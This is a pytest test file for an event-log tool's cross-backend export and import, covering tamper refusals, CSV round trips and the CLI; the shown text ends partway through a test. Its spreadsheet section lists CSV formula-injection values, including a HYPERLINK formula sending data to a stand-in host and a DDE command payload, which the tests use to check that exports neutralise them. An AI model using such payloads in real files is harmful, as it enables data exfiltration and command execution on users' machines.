"""Moving a log: `dump` and `load` across backends, the export files, the refusals, and the CLI.

An export is the store exactly as stored; an import goes into an empty store in one transaction that
commits only once every chain verifies. The round trips run across SQLite and PostgreSQL both ways;
the refusals run on both backends through the conformance fixture, and each one checks that nothing
was left behind and that a correct import still goes in afterwards. The CLI tests run the console
script on real SQLite files and real PostgreSQL schemas (no Temporal server is needed).
"""

from __future__ import annotations

import csv
import io
import json
import re
import subprocess
import threading
import time
import uuid
from collections.abc import Callable, Generator, Iterator, Sequence
from contextlib import closing
from dataclasses import dataclass
from datetime import timedelta
from itertools import pairwise
from pathlib import Path
from typing import Any

import psycopg
import pytest
from typer.testing import CliRunner, Result

import chipclear.cli.store as cli_store
from chipclear.cli.main import app
from chipclear.domain.commands import Submit, Withdraw
from chipclear.domain.decider import decide
from chipclear.domain.facts import NONE
from chipclear.domain.models import Status
from chipclear.projections import PROJECTIONS, REQUESTS, get_request, list_requests, open_event_store
from chipclear.store.errors import StoreNotEmpty, StoreUnavailable
from chipclear.store.postgres import MIGRATIONS as PG_MIGRATIONS
from chipclear.store.postgres import PostgresEventStore, _Tx, split_url
from chipclear.store.protocol import EventStore
from chipclear.store.screening_tables import ScreeningListUnavailable
from chipclear.store.sql_log import append_in
from chipclear.store.sql_projection import rebuild
from chipclear.store.sql_screening import SCREENING_STREAM
from chipclear.store.sqlite import SQLiteEventStore
from chipclear.store.transfer import (
    CSV_COLUMNS,
    FORMULA_STARTS,
    ExportedEvent,
    ExportedStream,
    ExportHeader,
    ExportRecord,
    InvalidExport,
    neutral_cell,
    read_csv,
    read_jsonl,
    stored_cell,
    write_csv,
    write_jsonl,
)
from tests.cli.test_cli import CHIPCLEAR, chipclear, flat, hermetic_env, ok, refused, show
from tests.domain.test_screening import ACME_ROWS, LOADED_AT, csl_list
from tests.factories import make_request
from tests.postgres import Cluster
from tests.store.support import (
    AUTO,
    KINDS,
    MANUAL,
    NOW,
    RECORDER,
    Scenario,
    append_all,
    auditor_env,
    grant,
    new_id,
    play,
    scenario,
    scenarios,
    signed,
    store_url,
)
from tests.store.test_event_log_follow import lock_waiters

BUYER = "Alpha Compute Ltd."
OTHER_BUYER = "Beta Cloud Co."
AWAITING = KINDS.index("awaiting_review")  # the scenario still open for a reviewer: it can take more events
LICENSED = len(scenario("licensed", "probe").events)  # req-000 (the first kind): its last version


# -- filling a store and reading it back ------------------------------------------------------------
@dataclass(frozen=True)
class Filled:
    requests: list[Scenario]

    @property
    def request_ids(self) -> list[str]:
        return [each.request_id for each in self.requests]


def fill(store: EventStore) -> Filled:
    """Every kind of request, two screening lists (the second current) and an invoice registry."""
    found = scenarios(len(KINDS))
    append_all(store, found)
    first = csl_list(*ACME_ROWS)
    second = csl_list(ACME_ROWS[1], loaded_at=LOADED_AT + timedelta(hours=1))
    assert store.save_screening_list(first, by="ops@example.com")
    assert store.save_screening_list(second, by="ops@example.com")
    store.register_invoices(found[0].request_id, BUYER, ["INV-1", "INV-2"])
    store.register_invoices(found[1].request_id, BUYER, ["INV-3"])
    assert store.release_invoices(found[1].request_id) == 1  # ended unlicensed: INV-3 is free for BUYER
    return Filled(found)


def body(store: EventStore) -> list[ExportRecord]:
    """Everything a dump holds after its header."""
    header, *rest = store.dump()
    assert isinstance(header, ExportHeader)
    return rest


def jsonl_text(store: EventStore) -> str:
    out = io.StringIO()
    write_jsonl(store.dump(), out)
    return out.getvalue()


def stream_ids(records: Sequence[ExportRecord]) -> list[str]:
    return sorted({r.stream_id for r in records if isinstance(r, ExportedEvent)})


def max_position(records: Sequence[ExportRecord]) -> int:
    return max(r.position for r in records if isinstance(r, ExportedEvent))


def open_empty(kind: str, request: pytest.FixtureRequest, tmp_path: Path, name: str) -> EventStore:
    if kind == "sqlite":
        return SQLiteEventStore(tmp_path / f"{name}.db", projections=PROJECTIONS, recorder=RECORDER)
    postgres: Cluster = request.getfixturevalue("postgres")
    store = PostgresEventStore(
        postgres.new_schema(), require_schema=False, projections=PROJECTIONS, recorder=RECORDER
    )
    store.migrate()
    return store


def assert_empty(store: EventStore) -> None:
    """A refused import leaves nothing: no events, heads, lists, invoices or projection rows."""
    assert body(store) == []
    assert list_requests(store) == []
    assert store.projection_rows(REQUESTS) == []
    report = store.verify()
    assert (report.ok, report.streams_checked, report.events_checked) == (True, 0, 0)


# -- 1. round trips across backends -----------------------------------------------------------------
@pytest.mark.parametrize(
    ("source_kind", "target_kind"),
    [("sqlite", "postgresql"), ("postgresql", "sqlite"), ("sqlite", "sqlite")],
    ids=["sqlite-to-postgresql", "postgresql-to-sqlite", "sqlite-to-sqlite"],
)
def test_round_trip_keeps_everything(
    source_kind: str, target_kind: str, request: pytest.FixtureRequest, tmp_path: Path
) -> None:
    source = open_empty(source_kind, request, tmp_path, "source")
    target = open_empty(target_kind, request, tmp_path, "target")
    try:
        filled = fill(source)
        exported = body(source)

        summary = target.load(source.dump())

        ids = stream_ids(exported)
        assert SCREENING_STREAM in ids and set(filled.request_ids) <= set(ids)
        events = [r for r in exported if isinstance(r, ExportedEvent)]
        assert (summary.events, summary.streams, summary.screening_lists, summary.invoices) == (
            len(events),
            len(ids),
            2,
            3,
        )
        assert summary.requests == len(KINDS)
        before, after = source.verify(), target.verify()
        assert after.ok, after.breaks
        assert (after.streams_checked, after.events_checked) == (
            before.streams_checked,
            before.events_checked,
        )
        assert body(target) == exported  # events, lists and invoices: row for row, as stored

        for stream_id in ids:
            theirs, ours = source.read_stream(stream_id), target.read_stream(stream_id)
            assert [
                (e.event_id, e.version, e.position, e.hash, e.prev_hash, e.data, e.recorded_at) for e in ours
            ] == [
                (e.event_id, e.version, e.position, e.hash, e.prev_hash, e.data, e.recorded_at)
                for e in theirs
            ]
            assert ours == theirs
        for request_id in filled.request_ids:
            state = get_request(target, request_id)
            assert state is not None and state == get_request(source, request_id)
        assert list_requests(target) == list_requests(source)
        assert list_requests(target, status=Status.LICENSED) == list_requests(source, status=Status.LICENSED)
        assert target.projection_rows(REQUESTS) == source.projection_rows(REQUESTS)
        assert target.screening_list_versions() == source.screening_list_versions()
        current = target.current_screening_list()
        assert current is not None and current == source.current_screening_list()
        assert current.info.version == source.screening_list_versions()[0].version

        # The registry answers the same on both: INV-1 stays with its request, INV-3 (released) is
        # free for its own buyer only, a new key goes to whoever asks first.
        answers = [
            store.register_invoices("req-other", OTHER_BUYER, ["INV-1", "INV-3", "INV-9"])
            for store in (source, target)
        ]
        assert answers[0] == answers[1]
        assert answers[1]["INV-1"].request_id == filled.request_ids[0]
        assert answers[1]["INV-3"].request_id == "(ended unlicensed)"
        assert answers[1]["INV-9"].request_id == "req-other"
        again = [store.register_invoices("req-again", BUYER, ["INV-3"]) for store in (source, target)]
        assert again[0] == again[1]
        assert again[1]["INV-3"].request_id == "req-again"

        # New appends continue the imported chain, at positions after every imported one.
        highest = max_position(exported)
        open_request = filled.requests[AWAITING]
        state = get_request(target, open_request.request_id)
        assert state is not None and state.status == "us_export_review"
        head = target.read_stream(open_request.request_id)[-1]
        withdrawal = decide(
            state,
            signed(Withdraw(reason="moved stores"), state),
            NONE,
            MANUAL,
            NOW + timedelta(days=1),
            new_id=new_id,
        )
        assert target.append(open_request.request_id, state.version, withdrawal).written
        appended = target.read_stream(open_request.request_id)[len(open_request.events) :]
        assert [e.event_id for e in appended] == [e.event_id for e in withdrawal]
        assert appended[0].prev_hash == head.hash
        assert all(e.position > highest for e in appended)
        fresh = scenario("licensed", "req-after-import")
        append_all(target, [fresh])
        assert all(e.position > highest for e in target.read_stream(fresh.request_id))
        withdrawn = get_request(target, open_request.request_id)
        assert withdrawn is not None and withdrawn.status == Status.WITHDRAWN
        report = target.verify()
        assert report.ok, report.breaks
        assert report.events_checked == len(events) + len(withdrawal) + len(fresh.events)
    finally:
        source.close()
        target.close()


# -- 2. through files -------------------------------------------------------------------------------
@pytest.fixture(scope="module")
def source_store(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[SQLiteEventStore, Filled]]:
    """One filled SQLite store that every refusal and CLI test exports from (read only)."""
    store = SQLiteEventStore(
        tmp_path_factory.mktemp("source") / "events.db", projections=PROJECTIONS, recorder=RECORDER
    )
    filled = fill(store)
    yield store, filled
    store.close()


@pytest.fixture(scope="module")
def export_lines(source_store: tuple[SQLiteEventStore, Filled]) -> list[str]:
    return jsonl_text(source_store[0]).splitlines(keepends=True)


def test_jsonl_file_round_trip(
    event_store: EventStore, source_store: tuple[SQLiteEventStore, Filled], tmp_path: Path
) -> None:
    source, _ = source_store
    path = tmp_path / "export.jsonl"
    with path.open("w", encoding="utf-8") as out:
        written = write_jsonl(source.dump(), out)
    exported = body(source)
    assert written == len([r for r in exported if isinstance(r, ExportedEvent)])
    assert path.read_text(encoding="utf-8").splitlines()[0].startswith('{"record":"header"')

    with path.open(encoding="utf-8") as lines:
        summary = event_store.load(read_jsonl(lines))

    assert (summary.events, summary.screening_lists, summary.invoices) == (written, 2, 3)
    report = event_store.verify()
    assert report.ok and report.events_checked == written
    assert body(event_store) == exported
    assert event_store.screening_list_versions() == source.screening_list_versions()


def test_csv_file_round_trip_carries_the_events_only(
    event_store: EventStore, source_store: tuple[SQLiteEventStore, Filled], tmp_path: Path
) -> None:
    source, filled = source_store
    path = tmp_path / "export.csv"
    with path.open("w", encoding="utf-8", newline="") as out:
        written = write_csv(source.dump(), out)
    rows = list(csv.DictReader(path.read_text(encoding="utf-8").splitlines()))
    assert list(rows[0]) == CSV_COLUMNS and len(rows) == written
    exported_events = [r for r in body(source) if isinstance(r, ExportedEvent)]
    assert written == len(exported_events)

    with path.open(encoding="utf-8", newline="") as lines:
        summary = event_store.load(read_csv(lines))

    assert (summary.events, summary.screening_lists, summary.invoices) == (written, 0, 0)
    report = event_store.verify()  # the ScreeningListLoaded events verify without their lists
    assert report.ok and report.events_checked == written
    # The same events; the heads are rebuilt from the events themselves (a CSV carries none).
    assert [r for r in body(event_store) if isinstance(r, ExportedEvent)] == exported_events
    assert [r for r in body(event_store) if isinstance(r, ExportedStream)] == [
        r for r in body(source) if isinstance(r, ExportedStream)
    ]
    # No list came along, but the record still names the list in force: screening refuses until it is
    # loaded again, rather than fall back to the bundled sample.
    assert event_store.screening_list_versions() == source.screening_list_versions()
    with pytest.raises(ScreeningListUnavailable, match="missing from the screening_lists table"):
        event_store.current_screening_list()
    taken = event_store.register_invoices("req-other", OTHER_BUYER, ["INV-1"])  # no registry came along
    assert taken["INV-1"].request_id == "req-other"
    for request_id in filled.request_ids:
        assert get_request(event_store, request_id) == get_request(source, request_id)


# -- 3. refusals leave nothing behind ---------------------------------------------------------------
def records_of(lines: Sequence[str]) -> list[dict[str, Any]]:
    return [json.loads(line) for line in lines]


def line_of(lines: Sequence[str], match: Callable[[dict[str, Any]], bool]) -> int:
    """The index of the first line whose record matches."""
    return next(i for i, record in enumerate(records_of(lines)) if match(record))


def event_at(stream_id: str, version: int) -> Callable[[dict[str, Any]], bool]:
    return lambda r: r["record"] == "event" and r["stream_id"] == stream_id and r["version"] == version


def edit_units(lines: list[str]) -> list[str]:
    at = line_of(lines, event_at("req-000", 1))
    assert '"units":50000' in lines[at]
    lines[at] = lines[at].replace('"units":50000', '"units":5000', 1)
    return lines


def delete_event(stream_id: str, version: int) -> Callable[[list[str]], list[str]]:
    def edit(lines: list[str]) -> list[str]:
        del lines[line_of(lines, event_at(stream_id, version))]
        return lines

    return edit


def swap_lines(lines: list[str]) -> list[str]:
    at = line_of(lines, event_at("req-000", 2))
    lines[at], lines[at + 1] = lines[at + 1], lines[at]
    return lines


def swap_positions(stream_id: str, version: int) -> Callable[[list[str]], list[str]]:
    """Two events of one stream trade places in the log; the file stays in position order."""

    def edit(lines: list[str]) -> list[str]:
        i, j = line_of(lines, event_at(stream_id, version)), line_of(lines, event_at(stream_id, version + 1))
        first, second = json.loads(lines[i]), json.loads(lines[j])
        first["position"], second["position"] = second["position"], first["position"]
        lines[i], lines[j] = json.dumps(second) + "\n", json.dumps(first) + "\n"
        return lines

    return edit


def duplicate_event(lines: list[str]) -> list[str]:
    at = line_of(lines, event_at("req-001", 2))
    lines.insert(at + 1, lines[at])
    return lines


def edit_screening_list(lines: list[str]) -> list[str]:
    at = line_of(lines, lambda r: r["record"] == "screening_list")
    record = json.loads(lines[at])
    assert "Acme Quantum" in record["data"]
    record["data"] = record["data"].replace("Acme Quantum", "Acme Quantim")
    lines[at] = json.dumps(record) + "\n"
    return lines


def drop_header(lines: list[str]) -> list[str]:
    return lines[1:]


def not_json(lines: list[str]) -> list[str]:
    lines[4] = '{"record": "event", "position": 4,\n'
    return lines


def unknown_type(lines: list[str]) -> list[str]:
    at = line_of(lines, event_at("req-002", 2))
    record = json.loads(lines[at])
    record["type"] = "RequestTeleported"
    lines[at] = json.dumps(record) + "\n"
    return lines


@dataclass(frozen=True)
class Tamper:
    edit: Callable[[list[str]], list[str]]
    needles: tuple[str, ...]


TAMPERS = {
    "edited-units": Tamper(
        edit_units, ("'req-000' at version 1", "hash does not match", "nothing was imported")
    ),
    "deleted-middle-event": Tamper(  # a GateApproved: the request still folds without it
        delete_event("req-000", 6), ("'req-000' at version 6", "version 6 is missing", "nothing was imported")
    ),
    "reordered-lines": Tamper(swap_lines, ("at position 2", "positions must rise")),
    "reordered-positions": Tamper(  # DomesticQuotaAssessed and GateApproved trade places
        swap_positions("req-000", 8),
        ("'req-000' at version 9", "stored out of order", "nothing was imported"),
    ),
    "duplicated-event-line": Tamper(duplicate_event, ("twice", "nothing was imported")),
    "edited-screening-list": Tamper(
        edit_screening_list,
        (
            f"{SCREENING_STREAM!r} at version 1",
            "differs from the list that was loaded",
            "nothing was imported",
        ),
    ),
    "missing-header": Tamper(drop_header, ("line 1", "header")),
    "not-json": Tamper(not_json, ("line 5",)),
    "unknown-event-type": Tamper(unknown_type, ("RequestTeleported",)),
}


@pytest.mark.parametrize("case", TAMPERS)
def test_tampered_jsonl_is_refused_and_leaves_nothing(
    case: str, event_store: EventStore, export_lines: list[str]
) -> None:
    tamper = TAMPERS[case]
    edited = tamper.edit(list(export_lines))
    assert edited != export_lines

    with pytest.raises(InvalidExport) as refusal:
        event_store.load(read_jsonl(edited))

    for needle in tamper.needles:
        assert needle in str(refusal.value)
    if case in {"duplicated-event-line", "reordered-lines"}:
        stream_id, version = ("req-001", 2) if case == "duplicated-event-line" else ("req-000", 2)
        at = line_of(export_lines, event_at(stream_id, version))
        assert json.loads(export_lines[at])["event_id"] in str(refusal.value)
    if case == "unknown-event-type":
        at = line_of(export_lines, event_at("req-002", 2))
        assert f"line {at + 1}:" in str(refusal.value)
    assert_empty(event_store)
    summary = event_store.load(read_jsonl(export_lines))  # the intact export still goes in
    assert summary.events == sum(line.startswith('{"record":"event"') for line in export_lines)
    assert event_store.verify().ok


def csv_text(store: EventStore) -> str:
    out = io.StringIO()
    write_csv(store.dump(), out)
    return out.getvalue()


def test_csv_with_wrong_columns_or_bad_cells_is_refused(
    event_store: EventStore, source_store: tuple[SQLiteEventStore, Filled]
) -> None:
    text = csv_text(source_store[0])
    header, *rows = text.splitlines(keepends=True)

    renamed = header.replace("prev_hash", "previous_hash")
    with pytest.raises(InvalidExport, match=r"^line 1: expected the columns"):
        event_store.load(read_csv([renamed, *rows]))
    with pytest.raises(InvalidExport, match=r"^line 1: expected the columns"):
        event_store.load(read_csv([header.replace(",actor", ""), *rows]))

    bad_data = next(csv.DictReader([header, rows[2]]))
    bad_data["data"] = "{not json"
    out = io.StringIO()
    csv.DictWriter(out, fieldnames=CSV_COLUMNS, lineterminator="\n").writerow(bad_data)
    with pytest.raises(InvalidExport, match=r"^line 4: data: not a JSON object"):
        event_store.load(read_csv([header, *rows[:2], out.getvalue(), *rows[3:]]))

    bad_hash = next(csv.DictReader([header, rows[1]]))
    bad_hash["hash"] = "not-a-hash"
    out = io.StringIO()
    csv.DictWriter(out, fieldnames=CSV_COLUMNS, lineterminator="\n").writerow(bad_hash)
    with pytest.raises(InvalidExport, match=r"^line 3: hash: "):
        event_store.load(read_csv([header, rows[0], out.getvalue(), *rows[2:]]))

    assert_empty(event_store)
    assert event_store.load(read_csv(text.splitlines(keepends=True))).events == len(rows)
    assert event_store.verify().ok


def test_empty_file_is_not_an_export(event_store: EventStore) -> None:
    with pytest.raises(InvalidExport, match="empty"):
        event_store.load(read_jsonl(["\n", "  \n"]))
    assert_empty(event_store)


# Keys an export holds twice: each such load is refused with InvalidExport naming the key.
def dup_version_new_id(lines: list[str]) -> list[str]:
    """A second event at req-000 v3 under a fresh id, at the end of the log."""
    record = json.loads(lines[line_of(lines, event_at("req-000", 3))])
    record |= {"event_id": str(uuid.uuid4()), "position": max_position(list(read_jsonl(lines))) + 1}
    at = max(i for i, r in enumerate(records_of(lines)) if r["record"] == "event")
    lines.insert(at + 1, json.dumps(record) + "\n")
    return lines


def duplicate_record(kind: str) -> Callable[[list[str]], list[str]]:
    def edit(lines: list[str]) -> list[str]:
        at = line_of(lines, lambda r: r["record"] == kind)
        lines.insert(at + 1, lines[at])
        return lines

    return edit


def test_duplicate_keys_in_an_export_are_refused_as_invalid(
    event_store: EventStore, export_lines: list[str]
) -> None:
    """A key the export holds twice is named as such (InvalidExport, exit 2 in the CLI) before it can
    reach the database as an integrity error of one driver or the other."""
    variants = {
        # name: (edit, the key the refusal names, as a regular expression)
        "same stream and version under a new event id": (dup_version_new_id, "stream version 'req-000@3'"),
        "a screening list line twice": (duplicate_record("screening_list"), "screening list 'csl-[^']+'"),
        "an invoice line twice": (duplicate_record("invoice"), "invoice 'INV-1'"),
    }
    for name, (edit, key) in variants.items():
        try:
            event_store.load(read_jsonl(edit(list(export_lines))))
            outcome = "imported"
        except Exception as exc:
            outcome = f"{type(exc).__name__}: {exc}"
        expected = f"InvalidExport: the export holds {key} twice; nothing was imported"
        assert re.fullmatch(expected, outcome), f"{name}: {outcome}"
        assert_empty(event_store)


@pytest.mark.parametrize(
    "edit",
    [delete_event("req-000", 5), swap_positions("req-000", 3)],
    ids=["deleted-gate-opened", "gate-approved-before-it-opened"],
)
def test_broken_chains_the_projection_cannot_fold_are_refused_as_invalid(
    edit: Callable[[list[str]], list[str]], sqlite_target: SQLiteEventStore, export_lines: list[str]
) -> None:
    """The audit runs before the projection is rebuilt: a log broken so that it cannot even fold (a
    gate approved that never opened) is refused with the break named, not with the fold's error."""
    with pytest.raises(InvalidExport, match="'req-000' at version"):
        sqlite_target.load(read_jsonl(edit(list(export_lines))))
    assert_empty(sqlite_target)


def test_a_jsonl_export_without_its_stream_records_is_refused(
    sqlite_target: SQLiteEventStore, export_lines: list[str]
) -> None:
    """Deleting the heads too does not make a cut-off tail pass: a JSON Lines export must carry them."""
    last = line_of(export_lines, event_at("req-000", LICENSED))
    cut = [
        line for i, line in enumerate(export_lines) if i != last and not line.startswith('{"record":"stream"')
    ]
    with pytest.raises(
        InvalidExport, match="no stream record for 'req-000' and 7 more; nothing was imported"
    ):
        sqlite_target.load(read_jsonl(cut))
    assert_empty(sqlite_target)


def test_a_csv_cell_far_above_csvs_default_limit_imports(
    sqlite_target: SQLiteEventStore, tmp_path: Path
) -> None:
    """A request filed with a thousand procurement records is one large data cell."""
    records = [
        {"vendor": "Huawei", "product": "Ascend 910C", "units": 1, "invoice": f"HW-{i:06d}-" + "x" * 150}
        for i in range(1_000)
    ]
    found = play(AUTO, [(timedelta(0), Submit(request=make_request(domestic_procurement=records)))])
    with closing(SQLiteEventStore(tmp_path / "big.db", projections=PROJECTIONS, recorder=RECORDER)) as source:
        append_all(source, [found])
        text = csv_text(source)
    assert max(len(line) for line in text.splitlines()) > 128 * 1024  # csv's default cell limit
    summary = sqlite_target.load(read_csv(text.splitlines(keepends=True)))
    assert summary.events == len(found.events) and sqlite_target.verify().ok


def test_export_with_a_streams_last_event_cut_off_is_refused(
    sqlite_target: SQLiteEventStore, export_lines: list[str]
) -> None:
    """The export carries each stream's head, so an export whose last event of a stream was removed
    (here req-000's LicenseIssued) is refused, as `verify()` on a live store would refuse it."""
    last = line_of(export_lines, event_at("req-000", LICENSED))
    assert json.loads(export_lines[last])["type"] == "LicenseIssued"
    cut = [line for i, line in enumerate(export_lines) if i != last]
    with pytest.raises(
        InvalidExport,
        match=rf"^the export does not verify: stream 'req-000' at version {LICENSED}: version {LICENSED} is "
        rf"missing \(the stream head says {LICENSED}\) \(1 broken\); nothing was imported$",
    ):
        sqlite_target.load(read_jsonl(cut))
    assert_empty(sqlite_target)


@pytest.fixture
def sqlite_target(tmp_path: Path) -> Iterator[SQLiteEventStore]:
    store = SQLiteEventStore(tmp_path / "target.db", projections=PROJECTIONS, recorder=RECORDER)
    yield store
    store.close()


# -- 4. a store that already holds a log ------------------------------------------------------------
def test_import_into_a_non_empty_store_is_refused_and_changes_nothing(
    event_store: EventStore, export_lines: list[str]
) -> None:
    own = scenario("withdrawn", "req-already-here")
    append_all(event_store, [own])
    before, rows = body(event_store), event_store.projection_rows(REQUESTS)

    with pytest.raises(StoreNotEmpty, match="not empty"):
        event_store.load(read_jsonl(export_lines))

    assert body(event_store) == before and event_store.projection_rows(REQUESTS) == rows
    assert event_store.verify().ok


@pytest.mark.parametrize("holding", ["screening-list", "invoice"])
def test_a_store_with_only_lists_or_invoices_is_not_empty(
    holding: str, event_store: EventStore, export_lines: list[str]
) -> None:
    if holding == "screening-list":
        assert event_store.save_screening_list(csl_list(*ACME_ROWS), by="ops")
    else:
        event_store.register_invoices("req-x", BUYER, ["INV-77"])
    before = body(event_store)
    with pytest.raises(StoreNotEmpty):
        event_store.load(read_jsonl(export_lines))
    assert body(event_store) == before


# -- 5. the CLI -------------------------------------------------------------------------------------
runner = CliRunner()


def cli_env(url: str, tmp_path: Path) -> dict[str, str]:
    return hermetic_env(CHIPCLEAR_EVENT_STORE=url, **auditor_env(tmp_path))


def invoke(url: str, *args: str | Path, env: dict[str, str] | None = None) -> Result:
    """The CLI in-process, for the many quick error cases."""
    return runner.invoke(app, [str(arg) for arg in args], env={"CHIPCLEAR_EVENT_STORE": url} | (env or {}))


def run_all(env: dict[str, str], *commands: Sequence[str]) -> list[subprocess.CompletedProcess[str]]:
    """Independent CLI calls side by side (each is most of a second of interpreter start-up)."""
    procs = [
        subprocess.Popen(
            [str(CHIPCLEAR), *command], env=env, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True
        )
        for command in commands
    ]
    results = []
    for proc in procs:
        out, err = proc.communicate(timeout=60)
        results.append(subprocess.CompletedProcess(proc.args, proc.returncode, out, err))
    return results


def sqlite_url(path: Path) -> str:
    return f"sqlite:///{path.resolve()}"


def without_header(text: str) -> list[str]:
    header, *rest = text.splitlines()
    assert json.loads(header)["record"] == "header"
    return rest


def test_cli_export_and_import_across_backends(
    source_store: tuple[SQLiteEventStore, Filled], pg_url: str, tmp_path: Path
) -> None:
    source, _ = source_store
    env = cli_env(store_url(source), tmp_path)
    out_dir = tmp_path / "exports"
    out_dir.mkdir()
    jsonl_file, csv_file = out_dir / "log.jsonl", out_dir / "log.csv"
    expected = without_header(jsonl_text(source))
    events = len([line for line in expected if line.startswith('{"record":"event"')])

    to_stdout = ok(chipclear(env, "store", "export"))
    assert without_header(to_stdout.stdout) == expected
    to_file = ok(chipclear(env, "store", "export", "-o", jsonl_file))
    assert to_file.stdout == ""
    assert f"exported {events} events to {jsonl_file} (jsonl)" in flat(to_file.stderr)
    assert without_header(jsonl_file.read_text(encoding="utf-8")) == expected
    ok(chipclear(env, "store", "export", "--format", "csv", "-o", csv_file))
    assert csv_file.read_text(encoding="utf-8") == csv_text(source)
    assert sorted(p.name for p in out_dir.iterdir()) == ["log.csv", "log.jsonl"]  # no .partial left

    imported = ok(chipclear(cli_env(pg_url, tmp_path), "store", "import", jsonl_file, "--json"))
    assert json.loads(imported.stdout) == {
        "events": events,
        "streams": len(KINDS) + 1,
        "screening_lists": 2,
        "invoices": 3,
        "buyer_claims": 0,
        "requests": len(KINDS),
        "checkpoints": 0,
    }
    with closing(open_event_store(pg_url)) as target:
        assert target.verify().ok
        assert without_header(jsonl_text(target)) == expected

    csv_target = tmp_path / "from-csv.db"
    from_csv = ok(chipclear(cli_env(sqlite_url(csv_target), tmp_path), "store", "import", csv_file))
    assert f"imported {events} events in {len(KINDS) + 1} streams, 0 screening lists, 0 invoices" in flat(
        from_csv.stdout
    )
    assert "a CSV export holds the events only" in flat(from_csv.stdout)
    assert "chipclear screening load" in flat(from_csv.stdout)
    with closing(SQLiteEventStore(csv_target)) as target:
        assert target.verify().ok
        # The record names the lists loaded; their entries must be loaded again (screening refuses till then).
        assert target.screening_list_versions() == source.screening_list_versions()
        assert [r for r in body(target) if isinstance(r, ExportedEvent)] == [
            r for r in body(source) if isinstance(r, ExportedEvent)
        ]


# -- spreadsheets: no cell a spreadsheet would run ------------------------------------------------
# Actors as a careless user or an attacker types them: each would be a formula in a spreadsheet cell.
FORMULA_ACTORS = [
    '=HYPERLINK("http://evil.example/?"&A1,"open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
]
# Cells already starting with the neutralising quote must come back exactly too.
QUOTED_ACTORS = ["'quoted", "''=twice"]


def formula_store(store: EventStore) -> list[str]:
    """Requests submitted by each actor above, one under a request id starting with `-`."""
    actors = [*FORMULA_ACTORS, *QUOTED_ACTORS]
    for number, actor in enumerate(actors):
        request = make_request(request_id=f"-csv-{number}" if number == 0 else f"csv-{number}")
        append_all(store, [play(MANUAL, [(timedelta(0), Submit(request=request, actor=actor))])])
    return actors


def test_neutral_cells_round_trip() -> None:
    for value in ["=1+1", "+1", "-1", "@A1", "\tx", "\rx", "'", "''x", "plain", "", "{}"]:
        cell = neutral_cell(value)
        assert not cell.startswith(FORMULA_STARTS), cell
        assert stored_cell(cell) == value
    assert neutral_cell("=1+1") == "'=1+1" and neutral_cell("'x") == "''x" and neutral_cell("x") == "x"


def test_csv_export_neutralises_formulas_and_imports_back_exactly(
    event_store: EventStore, tmp_path: Path
) -> None:
    """Issue 14: actors starting with `=` landed in CSV cells as formulas. Each such cell now starts with
    `'`, which a spreadsheet shows as text, and the import takes exactly one off: the same bytes, the
    same hashes, on SQLite and on PostgreSQL."""
    with closing(
        SQLiteEventStore(tmp_path / "source.db", projections=PROJECTIONS, recorder=RECORDER)
    ) as source:
        actors = formula_store(source)
        text = csv_text(source)
        exported = [r for r in body(source) if isinstance(r, ExportedEvent)]

    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
    for actor in actors:
        assert "'" + actor in cells
    assert "'-csv-0" in cells  # the stream id too

    summary = event_store.load(read_csv(text.splitlines(keepends=True)))
    assert summary.events == len(exported)
    assert [r for r in body(event_store) if isinstance(r, ExportedEvent)] == exported
    assert {event.actor for r in exported for event in event_store.read_stream(r.stream_id)} == set(actors)
    assert event_store.verify().ok


def test_cli_csv_export_import_and_audit_with_formula_actors(tmp_path: Path) -> None:
    """The same through the console script: export to CSV, import into a new store, `audit verify`."""
    source_path, target_path = tmp_path / "source.db", tmp_path / "target.db"
    with closing(SQLiteEventStore(source_path, projections=PROJECTIONS, recorder=RECORDER)) as source:
        actors = formula_store(source)
    exported = tmp_path / "log.csv"
    ok(
        chipclear(
            cli_env(sqlite_url(source_path), tmp_path), "store", "export", "--format", "csv", "-o", exported
        )
    )
    assert not [
        cell for row in csv.reader(io.StringIO(exported.read_text())) for cell in row if cell.startswith("=")
    ]
    target_env = cli_env(sqlite_url(target_path), tmp_path)
    ok(chipclear(target_env, "store", "import", exported))
    verified = ok(chipclear(target_env, "audit", "verify", "--json"))
    assert json.loads(verified.stdout)["ok"] is True
    with closing(SQLiteEventStore(target_path, projections=PROJECTIONS)) as target:
        assert {e.actor for e in target.read_all()} == set(actors)


def test_cli_export_to_a_file_appears_only_when_complete(
    source_store: tuple[SQLiteEventStore, Filled], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The connection drops half-way: the old file stays as it was, and no partial file is left."""
    target = tmp_path / "log.jsonl"
    target.write_text("yesterday's export\n", encoding="utf-8")

    def half_then_fail(records: Generator[ExportRecord, None, None], out: Any) -> int:
        for _, record in zip(range(5), records, strict=False):
            out.write(record.model_dump_json() + "\n")
        out.flush()
        records.close()  # the export itself leaves it open: see test_cli_export_into_a_closed_pipe_…
        raise StoreUnavailable("the connection to the event store was lost")

    monkeypatch.setattr(cli_store, "write_jsonl", half_then_fail)
    result = invoke(store_url(source_store[0]), "store", "export", "-o", target)

    assert result.exit_code == 1, result.output
    assert "connection to the event store was lost" in flat(result.stderr)
    assert target.read_text(encoding="utf-8") == "yesterday's export\n"
    assert [p.name for p in tmp_path.iterdir()] == ["log.jsonl"]


def test_cli_export_into_a_missing_directory_is_invalid_input(
    source_store: tuple[SQLiteEventStore, Filled], tmp_path: Path
) -> None:
    """`-o` into a directory that does not exist is invalid input (exit 2), and nothing is written."""
    result = invoke(store_url(source_store[0]), "store", "export", "-o", tmp_path / "no" / "log.jsonl")
    assert result.exit_code == 2, (result.exception, result.output)
    assert "no" in flat(result.stderr) and "error:" in result.stderr
    assert list(tmp_path.iterdir()) == []


def test_cli_export_into_a_closed_pipe_ends_quietly(tmp_path: Path) -> None:
    """`chipclear store export | head`: the reader going away ends the export without a traceback (the
    snapshot is closed before the store)."""
    path = tmp_path / "big.db"
    with closing(SQLiteEventStore(path, projections=PROJECTIONS, recorder=RECORDER)) as store:
        append_all(store, scenarios(10 * len(KINDS)))
        assert len(jsonl_text(store)) > 2 * 65536  # more than a pipe holds
    proc = subprocess.Popen(
        [str(CHIPCLEAR), "store", "export"],
        env=cli_env(sqlite_url(path), tmp_path),
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
    )
